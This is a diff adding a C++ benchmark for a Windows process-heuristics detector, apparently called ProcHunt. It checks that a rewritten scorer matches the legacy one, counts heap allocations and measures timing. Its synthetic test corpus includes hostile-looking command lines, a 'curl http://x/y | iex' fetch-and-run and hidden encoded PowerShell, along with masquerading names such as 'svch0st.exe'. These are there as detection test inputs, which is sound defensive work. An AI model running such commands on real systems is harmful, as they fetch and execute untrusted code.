@@ -0,0 +1,188 @@
+// SPDX-License-Identifier: MIT
+// EvaluateProcess: same scores/reasons as the former copy-and-lowercase version, zero heap
+// allocations per call once warm (counted through a replaced global operator new), timing.
+// build (Linux):
+//   g++ -O2 -std=c++17 -I../ProcHunt bench_eval.cpp ../ProcHunt/heuristics.cpp ../ProcHunt/rules.cpp ../ProcHunt/whitelist.cpp ../ProcHunt/matcher.cpp ../ProcHunt/obfusc.cpp ../ProcHunt/utils.cpp -o bench_eval
+#include <algorithm>
+#include <atomic>
+#include <chrono>
+#include <cstdio>
+#include <cstdlib>
+#include <new>
+#include <random>
+#include <string>
+#include <vector>
+
+#include "heuristics.h"
+#include "legacy_indicators.h"
+#include "utils.h"
+
+// ---- counting allocator ----
+static std::atomic<uint64_t> g_allocs{ 0 };
+void* operator new(size_t n) {
+    ++g_allocs;
+    if (void* p = std::malloc(n ? n : 1)) return p;
+    throw std::bad_alloc();
+}
+void* operator new[](size_t n) { return operator new(n); }
+void operator delete(void* p) noexcept { std::free(p); }
+void operator delete[](void* p) noexcept { std::free(p); }
+void operator delete(void* p, size_t) noexcept { std::free(p); }
+void operator delete[](void* p, size_t) noexcept { std::free(p); }
+
+namespace {
+    // Former EvaluateProcess (lowercased copies, per-call whitelist folding), frozen.
+    std::vector<std::wstring> g_pub = { L"Microsoft Windows", L"Microsoft Corporation", L"Microsoft Windows Publisher", L"Contoso Ltd" };
+    std::vector<std::wstring> g_path = { L"C:\\Windows\\System32", L"C:\\Windows\\SysWOW64", L"C:\\Program Files", L"C:\\Program Files (x86)", L"D:\\Tools\\" };
+
+    bool legacy_starts(std::wstring_view val, const std::vector<std::wstring>& prefixes) {
+        auto lc = util::lcase(val);
+        for (auto p : prefixes) {
+            auto lcp = util::lcase(util::rstrip_slash(p));
+            if (!lcp.empty() && lc.rfind(lcp, 0) == 0) return true;
+        }
+        return false;
+    }
+    bool legacy_equals(std::wstring_view val, const std::vector<std::wstring>& items) {
+        for (auto& it : items) if (util::iequals(val, it)) return true;
+        return false;
+    }
+    bool legacy_unc(const std::wstring& p, uint32_t tags) { return p.rfind(L"\\\\", 0) == 0 || (tags & legacy::IND_UNC_WEB); }
+    bool legacy_masq(const std::wstring& name, uint32_t imgTags) {
+        static const wchar_t* sysNames[] = { L"svchost.exe", L"lsass.exe", L"services.exe", L"winlogon.exe",
+                                            L"explorer.exe", L"smss.exe", L"taskhostw.exe" };
+        auto lname = util::lcase(name);
+        for (auto n : sysNames) if (lname == util::lcase(n) && !(imgTags & legacy::IND_SYSTEM_PATH)) return true;
+        return util::replace_common_lookalikes(lname) != lname;
+    }
+
+    struct LegacyResult { int score = 0; std::vector<std::wstring> reasons; };
+
+    LegacyResult legacy_eval(std::wstring_view imagePath, std::wstring_view commandLine, std::wstring_view currentDir,
+        std::wstring_view processName, const SignView& sig)
+    {
+        using namespace legacy;
+        LegacyResult r{};
+        const std::wstring img = util::lcase(imagePath), cmd = util::lcase(commandLine);
+        const std::wstring cwd = util::lcase(currentDir), name = util::lcase(processName);
+        const std::wstring imgDir = util::dirnameW(img);
+        const heur::Matcher& m = IndicatorMatcher();
+        const uint32_t imgTags = m.Scan(img), cwdTags = m.Scan(cwd), cmdTags = m.Scan(cmd);
+        const bool imgSystem = (imgTags & IND_SYSTEM_PATH) != 0;
+        bool pathWl = legacy_starts(imagePath, g_path);
+        bool pubWl = (!sig.publisher.empty() && legacy_equals(sig.publisher, g_pub));
+        if (!img.empty() && (imgTags & IND_USER_WRITABLE)) { r.score += 40; r.reasons.push_back(L"Image in user-writable path"); }
+        if (!img.empty() && legacy_unc(img, imgTags)) { r.score += 35; r.reasons.push_back(L"Image on UNC/Web path"); }
+        if (!cwd.empty()) {
+            if ((cwdTags & IND_TEMP_DL) || legacy_unc(cwd, cwdTags)) { r.score += 25; r.reasons.push_back(L"CWD in Temp/Downloads/UNC"); }
+            if (!img.empty() && !imgSystem && util::icmp(util::rstrip_slash(imgDir), util::rstrip_slash(cwd)) == false) {
+                r.score += 10; r.reasons.push_back(L"CWD != executable directory");
+            }
+            if (!img.empty() && !imgSystem && (cwdTags & IND_SYSTEM32_DIR)) { r.score += 10; r.reasons.push_back(L"Non-system binary with System32 as CWD"); }
+        }
+        if (legacy_masq(name.empty() ? util::basenameW(img) : name, imgTags)) { r.score += 25; r.reasons.push_back(L"Masquerading name/location"); }
+        if (cmdTags & IND_LOLBIN) { r.score += 30; r.reasons.push_back(L"LOLBin/suspicious command line"); }
+        if (heur::AnalyzeCommandLine(commandLine).Obfuscated()) { r.score += 20; r.reasons.push_back(L"Obfuscated/encoded command line"); }
+        if (!img.empty()) {
+            auto base = util::basenameW(img);
+            if (!name.empty() && !util::iequals(name, util::lcase(base))) { r.score += 10; r.reasons.push_back(L"Process name != image basename"); }
+        }
+        if (sig.trusted) {
+            r.reasons.push_back(L"Signature: VALID");
+            if (pubWl) r.reasons.push_back(L"Publisher whitelisted");
+            if (pubWl || pathWl) r.score = std::max(0, r.score - 30);
+        }
+        else { r.reasons.push_back(L"Signature: INVALID/UNSIGNED"); r.score += 30; }
+        if (pathWl) r.reasons.push_back(L"Path whitelisted");
+        if (r.score > 100) r.score = 100;
+        if (r.reasons.empty()) r.reasons.push_back(L"No obvious indicators");
+        return r;
+    }
+
+    struct Proc { std::wstring img, cmd, cwd, name, pub; bool trusted; };
+
+    std::vector<Proc> make_corpus(size_t n, unsigned seed) {
+        static const wchar_t* dirs[] = { L"C:\\Windows\\System32\\", L"c:\\windows\\SYSWOW64\\", L"C:\\Program Files\\App\\",
+            L"C:\\Users\\bob\\AppData\\Local\\Temp\\", L"C:\\Users\\Public\\Downloads\\", L"\\\\fileserver\\share\\",
+            L"D:\\tools\\", L"C:\\ProgramData\\x\\", L"" };
+        static const wchar_t* names[] = { L"svchost.exe", L"SVCHOST.EXE", L"lsass.exe", L"svch0st.exe", L"explorer.exe",
+            L"powershell.exe", L"app.exe", L"upd4te.exe", L"" };
+        static const wchar_t* cmds[] = { L"", L" -k netsvcs", L" -nop -w hidden -enc SQBFAFgA", L" /c curl http://x/y | iex ",
+            L" \"C:\\data\\file.txt\"", L" -ExecutionPolicy Bypass" };
+        static const wchar_t* pubs[] = { L"", L"Microsoft Windows", L"microsoft corporation", L"Contoso Ltd", L"Evil Corp" };
+        std::mt19937 rng(seed);
+        std::vector<Proc> v(n);
+        for (auto& p : v) {
+            std::wstring dir = dirs[rng() % 9];
+            std::wstring nm = names[rng() % 9];
+            p.img = dir.empty() ? std::wstring() : dir + (nm.empty() ? L"x.exe" : nm);
+            p.name = rng() % 5 ? nm : std::wstring(L"other.exe");
+            p.cmd = p.img + cmds[rng() % 6];
+            if (rng() % 10 == 0) p.cmd += std::wstring(150, L'Q');
+            p.cwd = rng() % 3 ? dir : std::wstring(dirs[rng() % 9]);
+            if (rng() % 4 == 0 && !p.cwd.empty()) p.cwd.pop_back();
+            p.pub = pubs[rng() % 5];
+            p.trusted = rng() % 2 != 0;
+        }
+        return v;
+    }
+
+    double now_ms() {
+        using namespace std::chrono;
+        return duration<double, std::milli>(steady_clock::now().time_since_epoch()).count();
+    }
+} // anon
+
+int main() {
+    heur::SetPublisherWhitelist({ L"Contoso Ltd" });
+    heur::SetPathWhitelist({ L"D:\\Tools\\" });
+    heur::ClearProtectedNames();   // the legacy evaluator predates the name_lookalike test
+    const auto corpus = make_corpus(20000, 3);
+
+    for (auto& p : corpus) {
+        SignView sv;
+        sv.trusted = p.trusted; sv.publisher = p.pub;
+        auto a = heur::EvaluateProcess(p.img, p.cmd, p.cwd, p.name, sv);
+        auto b = legacy_eval(p.img, p.cmd, p.cwd, p.name, sv);
+        bool same = a.score == b.score && a.reasons.size() == b.reasons.size();
+        for (size_t i = 0; same && i < b.reasons.size(); ++i) same = b.reasons[i] == a.reasons[i];
+        if (!same) {
+            printf("MISMATCH: %s score %d vs %d\n", util::to_utf8(p.img).c_str(), a.score, b.score);
+            return 1;
+        }
+    }
+    printf("results identical to the former evaluator (%zu processes)\n", corpus.size());
+
+    // Steady state: the arena has already grown to the largest fields above.
+    int sink = 0;
+    const uint64_t before = g_allocs.load();
+    for (auto& p : corpus) {
+        SignView sv;
+        sv.trusted = p.trusted; sv.publisher = p.pub;
+        sink += heur::EvaluateProcess(p.img, p.cmd, p.cwd, p.name, sv).score;
+    }
+    const uint64_t allocs = g_allocs.load() - before;
+    if (allocs) { printf("FAIL: %llu heap allocations in %zu evaluations\n", (unsigned long long)allocs, corpus.size()); return 1; }
+    printf("heap allocations per evaluation: 0\n");
+
+    const int rounds = 20;
+    double t0 = now_ms();
+    for (int k = 0; k < rounds; ++k)
+        for (auto& p : corpus) {
+            SignView sv; sv.trusted = p.trusted; sv.publisher = p.pub;
+            sink += heur::EvaluateProcess(p.img, p.cmd, p.cwd, p.name, sv).score;
+        }
+    double tNew = now_ms() - t0;
+    uint64_t a0 = g_allocs.load();
+    t0 = now_ms();
+    for (int k = 0; k < rounds; ++k)
+        for (auto& p : corpus) {
+            SignView sv; sv.trusted = p.trusted; sv.publisher = p.pub;
+            sink += legacy_eval(p.img, p.cmd, p.cwd, p.name, sv).score;
+        }
+    double tOld = now_ms() - t0;
+    const double n = (double)rounds * corpus.size();
+    printf("former: %.0f ns/process, %.1f allocations/process\n", tOld * 1e6 / n, (g_allocs.load() - a0) / n);
+    printf("views : %.0f ns/process (%.1fx)   [%d]\n", tNew * 1e6 / n, tOld / tNew, sink & 1);
+    return 0;
+}